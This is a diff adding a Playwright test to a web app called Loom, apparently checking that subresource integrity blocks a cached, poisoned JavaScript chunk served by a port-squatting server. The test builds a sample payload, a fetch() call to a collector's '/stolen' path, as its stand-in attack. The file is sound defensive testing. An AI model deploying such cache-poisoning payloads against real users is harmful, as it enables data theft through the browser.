@@ -11,6 +11,8 @@ import { Daemon } from '../support/daemon.ts';
 const built = fileURLToPath(new URL('../../dist/web', import.meta.url));
 const assets = readdirSync(join(built, 'assets')).map((name) => `/assets/${name}`);
 const later = assets.find((name) => name.includes('estimator')) ?? '';
+/** What settings and the palette share, named before settings themselves. */
+const shared = /data-later="settings" href="([^"]+)"/.exec(readFileSync(join(built, 'index.html'), 'utf8'))?.[1] ?? '';
 const fonts = assets.filter((name) => name.endsWith('.woff2'));
 const script = assets.find((name) => /\/index-.*\.js$/.test(name)) ?? '';
 
@@ -143,6 +145,34 @@ test('nor are those that Loom loads later', async ({ page }) => {
   await page.getByRole('textbox', { name: 'Your name' }).fill('Ann');
   await page.getByRole('button', { name: 'Create my identity' }).click();
   await expectIn(page);
+  expect(brought).toHaveLength(1);
+  await place.leave();
+});
+
+test('nor what several of those share', { tag: '@slow' }, async ({ page }) => {
+  const { brought, place } = await collector();
+  const steal = `fetch('${place.origin}/stolen', { mode: 'no-cors' });`;
+  const squatter = await Squatter.on(0, (request, response) => {
+    if (request.url === shared) send(response, 'text/javascript', steal, 'public, max-age=31536000, immutable');
+    else send(response, 'text/html', `<script type="module">import('${shared}');</script>`);
+  });
+  await page.goto(squatter.origin);
+  await expect.poll(() => brought.length).toBe(1);
+  await page.goto('about:blank');
+  await squatter.leave();
+
+  const daemon = await loomOn(squatter.port);
+  const said: string[] = [];
+  page.on('console', (message) => said.push(message.text()));
+  await page.goto(await daemon.url());
+  await page.getByRole('textbox', { name: 'Your name' }).fill('Ann');
+  await page.getByRole('button', { name: 'Create my identity' }).click();
+  await expectIn(page);
+  await expect.poll(() => said.some((text) => text.includes('integrity') && text.includes(shared))).toBe(true);
+  await page.getByRole('button', { name: 'You', exact: true }).click();
+  await page.getByRole('link', { name: 'Settings' }).click();
+  await expect(page.getByRole('heading', { name: /^Hello/ })).toBeVisible();
+  await expect(page.getByRole('heading', { name: 'Settings' })).toHaveCount(0);
   expect(brought).toHaveLength(1);
   await place.leave();
 });
